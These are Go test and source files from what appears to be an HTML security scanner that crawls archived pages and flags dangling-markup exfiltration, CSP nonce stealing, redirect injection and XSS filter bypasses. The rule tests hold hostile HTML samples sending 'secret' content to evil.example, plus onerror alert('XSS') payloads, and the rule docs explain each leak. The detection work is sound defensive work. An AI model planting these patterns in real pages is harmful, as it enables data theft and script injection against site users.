	})
	return fp
}

// TestChaosResumeEquivalence is the crash-safety acceptance test:
// interrupting a chaotic snapshot mid-run and restarting it with
// -resume semantics (same journal, fresh same-seed archive) must
// produce exactly the domain set — stored results, stats, and failure
// ledger — of the run that was never interrupted.
func TestChaosResumeEquivalence(t *testing.T) {
	const seed = 23
	arch := testArchive(100, 3)
	domains := arch.Generator().Universe()
	crawl := arch.Crawls()[0]
	dir := t.TempDir()

	runCfg := func(j *store.Journal, progress func(int)) Config {
		return Config{
			Workers: 4, PagesPerDomain: 3, Retries: 2, RetryDelay: NoDelay,
			MaxDomainFailures: 30, Journal: j,
			Progress: func(_, _ string, done, _ int) {
				if progress != nil {
					progress(done)
				}
			},
		}
	}

	// Reference: the run that never crashes.
	jA, warn, err := store.OpenJournal(filepath.Join(dir, "a.journal"))
	if err != nil || warn != "" {
		t.Fatalf("open journal A: %v %q", err, warn)
	}
	stA := store.New()
	pA := New(commoncrawl.NewChaos(arch, chaosProfile(seed)), core.NewChecker(), stA, runCfg(jA, nil))
	statsA, err := pA.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("reference run: %v", err)
	}
	jA.Close()

	// Crash: cancel mid-run, roughly a third of the way through.
	jPath := filepath.Join(dir, "b.journal")
	jB, _, err := store.OpenJournal(jPath)
	if err != nil {
		t.Fatal(err)
	}
	ctxB, cancelB := context.WithCancel(context.Background())
	defer cancelB()
	pB1 := New(commoncrawl.NewChaos(arch, chaosProfile(seed)), core.NewChecker(), store.New(),
		runCfg(jB, func(done int) {
			if done >= len(domains)/3 {
				cancelB()
			}
		}))
	_, err = pB1.RunSnapshot(ctxB, crawl, domains)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("interrupted run: err = %v, want context.Canceled", err)
	}
	jB.Close() // simulate the process dying (Record already hit the fd per line)
	completed := countJournal(t, jPath)
	if completed == 0 || completed >= len(domains) {
		t.Fatalf("interruption landed badly: %d/%d journaled", completed, len(domains))
	}

	// Resume: reopen the journal, fresh chaos archive with the same
	// seed (fault schedule is a pure function of the seed, so the
	// remaining domains see exactly the faults the reference run saw).
	jB2, warn, err := store.OpenJournal(jPath)
	if err != nil || warn != "" {
		t.Fatalf("reopen journal: %v %q", err, warn)
	}
	defer jB2.Close()
	stB := store.New()
	pB2 := New(commoncrawl.NewChaos(arch, chaosProfile(seed)), core.NewChecker(), stB, runCfg(jB2, nil))
	statsB, err := pB2.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("resumed run: %v", err)
	}
	if got := int(pB2.Metrics().DomainsResumed.Value()); got != completed {
		t.Fatalf("resumed %d domains from journal, want %d", got, completed)
	}
	if got := int(pB2.Metrics().DomainsStarted.Value()); got != len(domains)-completed {
		t.Fatalf("re-measured %d domains, want %d", got, len(domains)-completed)
	}
	if statsB.DomainsResumed != completed {
		t.Fatalf("stats.DomainsResumed = %d, want %d", statsB.DomainsResumed, completed)
	}

	fpA, fpB := fingerprint(statsA, stA), fingerprint(statsB, stB)
	if !reflect.DeepEqual(fpA, fpB) {
		t.Fatalf("resumed run diverged from uninterrupted run:\nA: %+v\nB: %+v", fpA, fpB)
	}
}

// countJournal reads the journal file fresh and returns how many pairs
// it records.
func countJournal(t *testing.T, path string) int {
	t.Helper()
	j, warn, err := store.OpenJournal(path)
	if err != nil {
		t.Fatal(err)
	}
	if warn != "" {
		t.Fatalf("journal warn: %s", warn)
	}
	defer j.Close()
	return j.Len()
}

// TestResumeSkipsJournaledPairs pins the skip behavior in isolation: a
// journal pre-loaded with completed pairs keeps those domains from
// being re-measured at all.
func TestResumeSkipsJournaledPairs(t *testing.T) {
	arch := testArchive(12, 2)
	domains := arch.Generator().Universe()
	crawl := arch.Crawls()[0]
	j, _, err := store.OpenJournal(filepath.Join(t.TempDir(), "r.journal"))
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	pre := domains[:5]
	for _, d := range pre {
		if err := j.Record(store.JournalEntry{Crawl: crawl, Domain: d,
			Result: &store.DomainResult{Crawl: crawl, Domain: d}}); err != nil {
			t.Fatal(err)
		}
	}
	st := store.New()
	p := New(arch, core.NewChecker(), st, Config{
		Workers: 2, PagesPerDomain: 2, Journal: j,
	})
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatal(err)
	}
	m := p.Metrics()
	if got := int(m.DomainsStarted.Value()); got != len(domains)-len(pre) {
		t.Fatalf("started %d, want %d (skipping %d journaled)", got, len(domains)-len(pre), len(pre))
	}
	if got := int(m.DomainsResumed.Value()); got != len(pre) {
		t.Fatalf("resumed %d, want %d", got, len(pre))
	}
	if stats.DomainsResumed != len(pre) {
		t.Fatalf("stats.DomainsResumed = %d, want %d", stats.DomainsResumed, len(pre))
	}
	// Every pair — replayed or measured — is now journaled: a second
	// run would be a pure replay.
	if j.Len() != len(domains) {
		t.Fatalf("journal holds %d pairs, want %d", j.Len(), len(domains))
	}
}
