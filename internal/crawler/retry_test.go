package crawler

import (
	"context"
	"errors"
	"sync"
	"testing"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// flakyArchive wraps an archive and fails every call once before letting
// it through — the transient-fault profile of a long network crawl.
type flakyArchive struct {
	inner commoncrawl.Archive

	mu     sync.Mutex
	failed map[string]bool
	faults int
}

func newFlaky(inner commoncrawl.Archive) *flakyArchive {
	return &flakyArchive{inner: inner, failed: make(map[string]bool)}
}

var errTransient = errors.New("transient archive fault")

func (f *flakyArchive) failOnce(key string) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.failed[key] {
		return false
	}
	f.failed[key] = true
	f.faults++
	return true
}

func (f *flakyArchive) Crawls() []string { return f.inner.Crawls() }

func (f *flakyArchive) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	if f.failOnce("q:" + crawl + "/" + domain) {
		return nil, errTransient
	}
	return f.inner.Query(ctx, crawl, domain, limit)
}

func (f *flakyArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	if f.failOnce("r:" + filename) {
		return nil, errTransient
	}
	return f.inner.ReadRange(ctx, filename, offset, length)
}

func TestPipelineRetriesTransientFaults(t *testing.T) {
	arch := testArchive(40, 3)
	flaky := newFlaky(arch)
	st := store.New()
	p := New(flaky, core.NewChecker(), st, Config{
		Workers: 4, PagesPerDomain: 3, Retries: 2, RetryDelay: NoDelay,
	})
	crawl := arch.Crawls()[0]
	stats, err := p.RunSnapshot(context.Background(), crawl, arch.Generator().Universe())
	if err != nil {
		t.Fatalf("retries did not absorb transient faults: %v", err)
	}
	if flaky.faults == 0 {
		t.Fatal("flaky archive never faulted — test is vacuous")
	}
	// Results must equal the fault-free run.
	direct := store.New()
	pd := New(arch, core.NewChecker(), direct, Config{Workers: 4, PagesPerDomain: 3})
	dstats, err := pd.RunSnapshot(context.Background(), crawl, arch.Generator().Universe())
	if err != nil {
		t.Fatal(err)
	}
	if stats.Analyzed != dstats.Analyzed || stats.PagesAnalyzed != dstats.PagesAnalyzed {
		t.Fatalf("flaky run differs: %+v vs %+v", stats, dstats)
	}
}

// permanentArchive always fails Query: the pipeline must surface the error
// after exhausting retries rather than hanging or succeeding silently.
type permanentArchive struct{ commoncrawl.Archive }

func (p permanentArchive) Query(context.Context, string, string, int) ([]*cdx.Record, error) {
	return nil, errTransient
}

func TestPipelineSurfacesPermanentFaults(t *testing.T) {
	arch := testArchive(5, 2)
	st := store.New()
	p := New(permanentArchive{arch}, core.NewChecker(), st, Config{
		Workers: 2, PagesPerDomain: 2, Retries: 1, RetryDelay: NoDelay,
	})
	_, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe())
	if !errors.Is(err, errTransient) {
		t.Fatalf("err = %v, want the archive fault", err)
	}
}

func TestPipelineSkipsOversizedDocuments(t *testing.T) {
	arch := testArchive(10, 2)
	st := store.New()
	p := New(arch, core.NewChecker(), st, Config{
		Workers: 2, PagesPerDomain: 2, MaxDocumentBytes: 16, // absurd cap
	})
	stats, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe())
	if err != nil {
		t.Fatal(err)
	}
	if stats.PagesAnalyzed != 0 {
		t.Fatalf("oversized documents analyzed: %d", stats.PagesAnalyzed)
	}
}
