package crawler

import (
	"context"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/store"
)

// TestPipelineMetricsAccountForPages is the acceptance check of the
// observability layer: every page the run reports must be traceable
// through the stage counters, and the stage counters must reconcile with
// each other.
func TestPipelineMetricsAccountForPages(t *testing.T) {
	arch := testArchive(120, 4)
	reg := obs.NewRegistry()
	checker := core.NewChecker().Instrument(reg)
	st := store.New().Instrument(reg)
	p := New(commoncrawl.Instrument(arch, reg), checker, st, Config{
		Workers: 4, PagesPerDomain: 4, Registry: reg,
	})
	domains := arch.Generator().Universe()
	crawl := arch.Crawls()[0]
	start := time.Now()
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatal(err)
	}
	m := p.Metrics()

	// Outer accounting: one query per domain, all domains finished.
	if got := m.Stage("query").Count(); got != uint64(len(domains)) {
		t.Errorf("query count = %d, want %d", got, len(domains))
	}
	if got := m.DomainsStarted.Value(); got != uint64(len(domains)) {
		t.Errorf("domains started = %d, want %d", got, len(domains))
	}
	if got := m.DomainsDone.Value(); got != uint64(len(domains)) {
		t.Errorf("domains done = %d, want %d", got, len(domains))
	}
	if got := m.InFlight.Value(); got != 0 {
		t.Errorf("in-flight after run = %d, want 0", got)
	}

	// Page accounting: counters must equal the run's reported stats, and
	// every fetched page is either skipped (for exactly one reason) or
	// analyzed.
	if got := m.PagesFound.Value(); got != uint64(stats.PagesFound) {
		t.Errorf("pages found counter = %d, stats %d", got, stats.PagesFound)
	}
	if got := m.PagesAnalyzed.Value(); got != uint64(stats.PagesAnalyzed) {
		t.Errorf("pages analyzed counter = %d, stats %d", got, stats.PagesAnalyzed)
	}
	if stats.PagesAnalyzed == 0 {
		t.Fatal("nothing analyzed — accounting test is vacuous")
	}
	if found, fetched, idx := m.PagesFound.Value(), m.PagesFetched.Value(),
		m.Skipped("index-filter").Value(); found != fetched+idx {
		t.Errorf("found %d != fetched %d + index-filtered %d", found, fetched, idx)
	}
	skippedAfterFetch := m.PagesSkipped() - m.Skipped("index-filter").Value()
	if fetched, analyzed := m.PagesFetched.Value(), m.PagesAnalyzed.Value(); fetched != analyzed+skippedAfterFetch {
		t.Errorf("fetched %d != analyzed %d + skipped %d", fetched, analyzed, skippedAfterFetch)
	}

	// Stage reconciliation: the check stage saw at least every analyzed
	// page; the store stage ran once per analyzed domain; fetch latencies
	// were recorded for every fetched page.
	if got := m.Stage("check").Count(); got < m.PagesAnalyzed.Value() {
		t.Errorf("check count = %d < analyzed %d", got, m.PagesAnalyzed.Value())
	}
	if got := m.Stage("fetch").Count(); got != m.PagesFetched.Value() {
		t.Errorf("fetch latency count = %d, want %d", got, m.PagesFetched.Value())
	}
	if got := m.Stage("store").Count(); got != uint64(stats.Analyzed) {
		t.Errorf("store count = %d, want %d analyzed domains", got, stats.Analyzed)
	}
	if m.BytesFetched.Value() == 0 {
		t.Error("bytes fetched = 0")
	}
	if got, want := m.DocBytes.Count(), m.Stage("check").Count(); got != want {
		t.Errorf("doc size observations = %d, want %d", got, want)
	}

	// The instrumented checker and archive share the registry and must
	// agree with the pipeline's own counts.
	if got, want := reg.Counter("core_pages_checked_total").Value(), m.Stage("check").Count(); got != want {
		t.Errorf("checker pages = %d, pipeline check count = %d", got, want)
	}
	if got, want := reg.Counter(`commoncrawl_queries_total{outcome="ok"}`).Value(),
		uint64(len(domains)); got != want {
		t.Errorf("archive queries ok = %d, want %d", got, want)
	}
	if got, want := reg.Counter("store_puts_total").Value(), uint64(stats.Analyzed); got != want {
		t.Errorf("store puts = %d, want %d", got, want)
	}

	// The end-of-run summary: throughput present, quantiles ordered.
	sum := p.Summary(time.Since(start))
	if sum.PagesAnalyzed != uint64(stats.PagesAnalyzed) || sum.PagesPerSec <= 0 {
		t.Errorf("summary pages=%d rate=%.1f, want pages=%d rate>0",
			sum.PagesAnalyzed, sum.PagesPerSec, stats.PagesAnalyzed)
	}
	if len(sum.Stages) != len(Stages) {
		t.Fatalf("summary stages = %d, want %d", len(sum.Stages), len(Stages))
	}
	for _, st := range sum.Stages {
		if st.P50ms > st.P95ms || st.P95ms > st.P99ms {
			t.Errorf("%s quantiles out of order: p50=%.3f p95=%.3f p99=%.3f",
				st.Stage, st.P50ms, st.P95ms, st.P99ms)
		}
		if st.Count > 0 && st.P99ms <= 0 {
			t.Errorf("%s: %d observations but p99=0", st.Stage, st.Count)
		}
	}
	if !strings.Contains(sum.String(), "pages/sec") {
		t.Errorf("summary text lacks throughput: %q", sum.String())
	}
}

// TestMetricsExposition drives the whole acceptance path: run a small
// crawl, serve the registry on an ephemeral port, and read non-zero stage
// counters back over HTTP — what `hvcrawl -metrics :0` does.
func TestMetricsExposition(t *testing.T) {
	arch := testArchive(40, 3)
	reg := obs.NewRegistry()
	p := New(arch, core.NewChecker().Instrument(reg), store.New(), Config{
		Workers: 4, PagesPerDomain: 3, Registry: reg,
	})
	if _, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe()); err != nil {
		t.Fatal(err)
	}
	srv, err := obs.StartServer("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	resp, err := http.Get("http://" + srv.Addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	out := string(body)
	for _, want := range []string{
		`crawler_stage_seconds_count{stage="query"}`,
		`crawler_stage_seconds_count{stage="check"}`,
		"crawler_pages_analyzed_total",
		`core_rule_hits_total{rule=`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}
	// The stage counters must be non-zero after a run.
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, `crawler_stage_seconds_count{stage="query"}`) {
			if strings.HasSuffix(line, " 0") {
				t.Errorf("query stage counter is zero: %q", line)
			}
		}
	}
	if strings.Contains(out, "crawler_pages_analyzed_total 0\n") {
		t.Error("pages analyzed counter is zero after a run")
	}
}

// TestNoRetriesSentinel pins the Config.Retries contract: zero means the
// default of two retries, the NoRetries sentinel really disables them —
// callers no longer need to read the source to turn retrying off.
func TestNoRetriesSentinel(t *testing.T) {
	arch := testArchive(20, 2)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()

	// Default (Retries left zero): transient faults are absorbed and the
	// retry counter shows it.
	flaky := newFlaky(arch)
	p := New(flaky, core.NewChecker(), store.New(), Config{
		Workers: 2, PagesPerDomain: 2, RetryDelay: NoDelay,
	})
	if _, err := p.RunSnapshot(context.Background(), crawl, domains); err != nil {
		t.Fatalf("default retries did not absorb transient faults: %v", err)
	}
	if got := p.Metrics().Retries.Value(); got == 0 {
		t.Error("default config: retry counter = 0, want > 0")
	}

	// NoRetries: the same fault profile surfaces as an error and nothing
	// is retried.
	flaky2 := newFlaky(arch)
	p2 := New(flaky2, core.NewChecker(), store.New(), Config{
		Workers: 2, PagesPerDomain: 2, RetryDelay: NoDelay, Retries: NoRetries,
	})
	if _, err := p2.RunSnapshot(context.Background(), crawl, domains); err == nil {
		t.Fatal("NoRetries absorbed a fault — retries ran anyway")
	}
	if got := p2.Metrics().Retries.Value(); got != 0 {
		t.Errorf("NoRetries: retry counter = %d, want 0", got)
	}
}
