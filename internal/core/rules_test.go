package core

import (
	"testing"
)

// wrap builds a minimal well-formed document around a body payload.
func wrap(body string) []byte {
	return []byte(`<!DOCTYPE html><html><head><title>t</title></head><body>` + body + `</body></html>`)
}

// wrapHead builds a document with the payload inside head.
func wrapHead(head string) []byte {
	return []byte(`<!DOCTYPE html><html><head><title>t</title>` + head + `</head><body><p>x</p></body></html>`)
}

func mustCheck(t *testing.T, html []byte) *Report {
	t.Helper()
	rep, err := NewChecker().Check(html)
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	return rep
}

// ruleCase pairs a violating and a clean document for one rule.
type ruleCase struct {
	id   string
	bad  []byte
	good []byte
}

func ruleCases() []ruleCase {
	return []ruleCase{
		{
			id:   "DE1",
			bad:  []byte(`<!DOCTYPE html><body><form action="https://evil.example"><input type="submit"><textarea><p>secret</p>`),
			good: wrap(`<form action="/s"><textarea>ok</textarea></form>`),
		},
		{
			id:   "DE2",
			bad:  []byte(`<!DOCTYPE html><body><form action="https://evil.example"><select><option><p>secret</p>`),
			good: wrap(`<select><option>a</option><option>b</option></select>`),
		},
		{
			id:   "DE3_1",
			bad:  wrap("<img src='https://evil.example/?c=\n<p>secret</p>'>"),
			good: wrap(`<img src="https://example.org/x.png">`),
		},
		{
			id: "DE3_2",
			bad: wrap(`<script src="https://evil.example/x.js" inj="
<p>data</p>
<script id=x nonce=r>"></script>`),
			good: wrap(`<script src="/app.js"></script>`),
		},
		{
			id:   "DE3_3",
			bad:  wrap("<a href=\"https://evil.example\">c</a><base target='\n<p>secret</p>'>"),
			good: wrap(`<a href="/x" target="_blank">c</a>`),
		},
		{
			id:   "DE4",
			bad:  wrap(`<form action="https://evil.example"><form id="real" action="/search"><input name=q></form></form>`),
			good: wrap(`<form action="/search"><input name=q></form>`),
		},
		{
			id:   "DM1",
			bad:  wrap(`<meta http-equiv="refresh" content="0; URL=https://evil.example">`),
			good: wrapHead(`<meta http-equiv="refresh" content="1"><meta charset="utf-8">`),
		},
		{
			id:   "DM2_1",
			bad:  wrap(`<base href="https://evil.example/">`),
			good: wrapHead(`<base href="/app/">`),
		},
		{
			id:   "DM2_2",
			bad:  wrapHead(`<base href="/a/"><base href="/b/">`),
			good: wrapHead(`<base href="/a/">`),
		},
		{
			id:   "DM2_3",
			bad:  wrapHead(`<link rel="stylesheet" href="/s.css"><base href="/late/">`),
			good: wrapHead(`<base href="/early/"><link rel="stylesheet" href="/s.css">`),
		},
		{
			id:   "DM3",
			bad:  wrap(`<div id="injection" onclick="evil()" onclick="benign()">x</div>`),
			good: wrap(`<div id="a" onclick="benign()">x</div>`),
		},
		{
			id:   "HF1",
			bad:  []byte(`<!DOCTYPE html><html><head><h1><title>t</title></h1></head><body>x</body></html>`),
			good: wrapHead(``),
		},
		{
			id:   "HF2",
			bad:  []byte(`<!DOCTYPE html><html><head><title>t</title></head><p <body onload="check()">x</html>`),
			good: wrap(`<p>x</p>`),
		},
		{
			id:   "HF3",
			bad:  []byte(`<!DOCTYPE html><html><head></head><body class="a"><p>x</p><body onload="evil()"></body></html>`),
			good: wrap(`<p>x</p>`),
		},
		{
			id:   "HF4",
			bad:  wrap(`<table><tr><strong>Headline</strong></tr><tr><td>x</td></tr></table>`),
			good: wrap(`<table><tr><td><strong>Headline</strong></td></tr></table>`),
		},
		{
			id:   "HF5_1",
			bad:  wrap(`<path d="M0 0L1 1"/><rect width="5"/>`),
			good: wrap(`<svg><path d="M0 0L1 1"/></svg>`),
		},
		{
			id:   "HF5_2",
			bad:  wrap(`<svg><desc></desc><div>break</div></svg>`),
			good: wrap(`<svg><g><circle r="4"/></g></svg>`),
		},
		{
			id:   "HF5_3",
			bad:  wrap(`<math><mglyph><ul><li>x</li></ul></math>`),
			good: wrap(`<math><mi>x</mi></math>`),
		},
		{
			id:   "FB1",
			bad:  wrap(`<img/src="x"/onerror="alert('XSS')">`),
			good: wrap(`<img src="x" onerror="alert('XSS')"> <br/>`),
		},
		{
			id:   "FB2",
			bad:  wrap(`<img src="users/injection"onerror="alert('XSS')">`),
			good: wrap(`<img src="users/x" onerror="alert('XSS')">`),
		},
	}
}

func TestEachRuleDetectsItsViolation(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.id, func(t *testing.T) {
			rep := mustCheck(t, tc.bad)
			if !rep.Violated(tc.id) {
				t.Fatalf("%s not detected; findings = %v", tc.id, rep.Findings)
			}
		})
	}
}

func TestEachRuleCleanOnGoodMarkup(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.id, func(t *testing.T) {
			rep := mustCheck(t, tc.good)
			if rep.Violated(tc.id) {
				t.Fatalf("%s false positive; findings = %v", tc.id, rep.Findings)
			}
		})
	}
}

// TestCleanDocumentHasNoViolations guards against cross-rule false
// positives on a realistic well-formed page.
func TestCleanDocumentHasNoViolations(t *testing.T) {
	page := []byte(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="content-security-policy" content="default-src 'self'">
<base href="/app/">
<title>Fine page</title>
<link rel="stylesheet" href="style.css">
<style>body { margin: 0 }</style>
<script src="app.js" defer></script>
</head>
<body>
<header><h1>Welcome</h1></header>
<nav><ul><li><a href="/a">A</a></li><li><a href="/b">B</a></li></ul></nav>
<table>
<caption>Data</caption>
<thead><tr><th>k</th><th>v</th></tr></thead>
<tbody><tr><td>x</td><td>1</td></tr></tbody>
</table>
<form action="/search" method="get">
<select name="c"><optgroup label="g"><option value="1">one</option></optgroup></select>
<textarea name="t">free text</textarea>
<input type="submit" value="go">
</form>
<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>
<math><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math>
<footer><p>&copy; 2022</p></footer>
<script>console.log("hi");</script>
</body>
</html>`)
	rep := mustCheck(t, page)
	if rep.HasViolation() {
		t.Fatalf("clean page flagged: %v", rep.Findings)
	}
	if !rep.Signals.UsesMath || !rep.Signals.UsesSVG {
		t.Fatalf("signals missed math/svg: %+v", rep.Signals)
	}
}

func TestRuleMetadata(t *testing.T) {
	rules := Rules()
	if len(rules) != 20 {
		t.Fatalf("catalogue size = %d, want 20", len(rules))
	}
	seen := map[string]bool{}
	for _, r := range rules {
		if seen[r.ID] {
			t.Fatalf("duplicate rule id %s", r.ID)
		}
		seen[r.ID] = true
		if r.Check == nil {
			t.Fatalf("%s has no check", r.ID)
		}
		if len(r.Doc) < 40 {
			t.Fatalf("%s has no substantive doc", r.ID)
		}
		if GroupOf(r.ID) != r.Group {
			t.Fatalf("%s group mismatch: %s vs %s", r.ID, GroupOf(r.ID), r.Group)
		}
		switch r.Group {
		case FilterBypass, DataManipulation:
			if !r.AutoFixable {
				t.Fatalf("%s should be auto-fixable (paper §4.4)", r.ID)
			}
		case DataExfiltration, HTMLFormatting:
			if r.AutoFixable {
				t.Fatalf("%s should not be auto-fixable", r.ID)
			}
		}
	}
	for _, id := range []string{"DE1", "DE2", "DE3_1", "DE3_2", "DE3_3", "DE4",
		"DM1", "DM2_1", "DM2_2", "DM2_3", "DM3",
		"HF1", "HF2", "HF3", "HF4", "HF5_1", "HF5_2", "HF5_3", "FB1", "FB2"} {
		if !seen[id] {
			t.Fatalf("missing rule %s", id)
		}
	}
}

func TestOnlyAutoFixable(t *testing.T) {
	rep := mustCheck(t, wrap(`<div id=a id=b>x</div><img src=u"x"onerror=e>`))
	if !rep.Violated("DM3") {
		t.Fatal("DM3 expected")
	}
	if !rep.OnlyAutoFixable() {
		t.Fatalf("all violations fixable, got %v", rep.ViolatedIDs())
	}
	rep = mustCheck(t, wrap(`<div id=a id=b>x</div><table><b>h</b></table>`))
	if rep.OnlyAutoFixable() {
		t.Fatalf("HF4 is not fixable, got %v", rep.ViolatedIDs())
	}
	rep = mustCheck(t, wrap(`<p>nothing wrong</p>`))
	if rep.OnlyAutoFixable() {
		t.Fatal("no violations at all — not 'fixable'")
	}
}

func TestStreamingCheckerSubset(t *testing.T) {
	// The streaming checker must catch tokenizer-level rules...
	rep, err := NewChecker().CheckStream(wrap(`<img/src=x/onerror=e><div a=1 a=2>x</div>`))
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Violated("FB1") || !rep.Violated("DM3") {
		t.Fatalf("streaming missed FB1/DM3: %v", rep.ViolatedIDs())
	}
	// ...and must not attempt tree rules.
	for _, r := range NewStreamingChecker().Rules() {
		if r.TreeRequired {
			t.Fatalf("streaming checker contains tree rule %s", r.ID)
		}
	}
}

func TestMitigationSignals(t *testing.T) {
	rep := mustCheck(t, wrap("<img src='https://e/?a=\nplain'>"))
	if !rep.Signals.NewlineInURL || rep.Signals.NewlineAndLtInURL {
		t.Fatalf("signals = %+v", rep.Signals)
	}
	rep = mustCheck(t, wrap("<img src='https://e/?a=\n<b>'>"))
	if !rep.Signals.NewlineAndLtInURL {
		t.Fatalf("signals = %+v", rep.Signals)
	}
	rep = mustCheck(t, wrap(`<iframe srcdoc="<script>x()</script>"></iframe>`))
	if !rep.Signals.ScriptInAttribute || rep.Signals.NonceScriptAffected {
		t.Fatalf("signals = %+v", rep.Signals)
	}
}
