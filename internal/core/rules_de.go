package core

import (
	"strings"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Data Exfiltration rules (paper §3.2.1 DE1/DE2, §3.2.2 DE3/DE4).

// urlAttributes lists attributes whose values the platform treats as URLs;
// the DE3_1 dangling markup check scans these (cf. Chromium's mitigation,
// which blocks resource loads from URLs containing both \n and <).
var urlAttributes = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true,
	"data": true, "poster": true, "cite": true, "background": true,
	"longdesc": true, "usemap": true, "manifest": true, "ping": true,
	"srcset": true, "icon": true, "dynsrc": true, "lowsrc": true,
}

// targetAttributeTags are the elements on which target names a browsing
// context (the DE3_3 window-name exfiltration channel).
var targetAttributeTags = map[string]bool{
	"a": true, "area": true, "base": true, "form": true,
}

// URLAttribute reports whether name is an attribute whose value the
// platform treats as a URL (the DE3_1/DM2_3 attribute set). Exported so
// the repair engine's DE3_1 strategy matches the rule predicate exactly
// instead of drifting on a private copy of the list.
func URLAttribute(name string) bool { return urlAttributes[name] }

// TargetAttributeTag reports whether tag is an element whose target
// attribute names a browsing context (the DE3_3 element set).
func TargetAttributeTag(tag string) bool { return targetAttributeTags[tag] }

// ruleDE1 detects textarea elements that were never terminated: the parser
// closes them at EOF, so everything following the injection point —
// including markup containing secrets — becomes the textarea's value and
// is submitted with the surrounding form (paper Figure 3).
var ruleDE1 = Rule{
	ID: "DE1", Name: "Non-terminated textarea element",
	Doc:   "An unterminated <textarea> swallows everything to end-of-file; injected before secret content inside an attacker-supplied form, the secret submits to the attacker's server without any script running (paper §3.2.1, Figure 3).",
	Group: DataExfiltration, Category: DefinitionViolation,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "DE1", htmlparse.EventAutoClosedAtEOF,
			func(e htmlparse.TreeEvent) bool { return e.Detail == "textarea" })
	},
}

// ruleDE2 detects select/option elements left open at EOF. The leak is
// plain text only: the parser strips tags inside select, keeping their
// character data (paper §3.2.1).
var ruleDE2 = Rule{
	ID: "DE2", Name: "Non-terminated select and option elements",
	Doc:   "An unterminated <select>/<option> swallows following content as plain text (tags stripped, text kept), exfiltrating it through form submission (paper §3.2.1).",
	Group: DataExfiltration, Category: DefinitionViolation,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "DE2", htmlparse.EventAutoClosedAtEOF,
			func(e htmlparse.TreeEvent) bool {
				return e.Detail == "select" || e.Detail == "option" || e.Detail == "optgroup"
			})
	},
}

// ruleDE3_1 detects the classic dangling markup exfiltration: a URL-valued
// attribute that absorbed following markup, recognizable by a newline plus
// a less-than sign inside the URL (the exact signal Chromium blocks).
var ruleDE3_1 = Rule{
	ID: "DE3_1", Name: "Non-terminated HTML: dangling markup URL",
	Doc:   "Classic dangling markup: a URL attribute left unterminated absorbs the following markup, and the browser sends it to the attacker's origin as part of the URL. Recognized by a newline plus '<' inside a URL — exactly what Chromium blocks since 2017 (paper §3.2.2, §4.5).",
	Group: DataExfiltration, Category: ParsingError,
	Check:  func(p *Page) []Finding { return tokenFindings(p, de31Token) },
	Stream: tokenStream(de31Token),
}

func de31Token(t *htmlparse.Token, emit func(Finding)) {
	if t.Type != htmlparse.StartTagToken {
		return
	}
	for _, a := range t.Attr {
		if !urlAttributes[a.Name] {
			continue
		}
		if strings.ContainsRune(a.RawValue, '\n') && strings.ContainsRune(a.RawValue, '<') {
			emit(Finding{
				RuleID: "DE3_1", Pos: a.Pos,
				Evidence: "<" + t.Data + " " + a.Name + "=" + truncate(a.RawValue, 80),
			})
		}
	}
}

// ruleDE3_2 detects the CSP nonce stealing pattern: the literal string
// "<script" inside an attribute value indicates a non-terminated attribute
// absorbed a following script element (paper Figure 2; the w3c/webappsec
// mitigation matches on exactly this).
var ruleDE3_2 = Rule{
	ID: "DE3_2", Name: "Non-terminated HTML: script-in-attribute (nonce stealing)",
	Doc:   "CSP nonce stealing: an unterminated attribute absorbs a following <script> tag, so its nonce now authorizes the attacker's script element. Recognized by the literal string '<script' inside an attribute value (paper Figure 2).",
	Group: DataExfiltration, Category: ParsingError,
	Check:  func(p *Page) []Finding { return tokenFindings(p, de32Token) },
	Stream: tokenStream(de32Token),
}

func de32Token(t *htmlparse.Token, emit func(Finding)) {
	if t.Type != htmlparse.StartTagToken {
		return
	}
	for _, a := range t.Attr {
		if strings.Contains(strings.ToLower(a.RawValue), "<script") {
			emit(Finding{
				RuleID: "DE3_2", Pos: a.Pos,
				Evidence: "<" + t.Data + " " + a.Name + "=" + truncate(a.RawValue, 80),
			})
		}
	}
}

// ruleDE3_3 detects non-terminated target attributes: the window name is
// readable cross-origin, so a target value that swallowed a newline (and
// hence following content) exfiltrates it to the next navigation target
// (paper Figure 5).
var ruleDE3_3 = Rule{
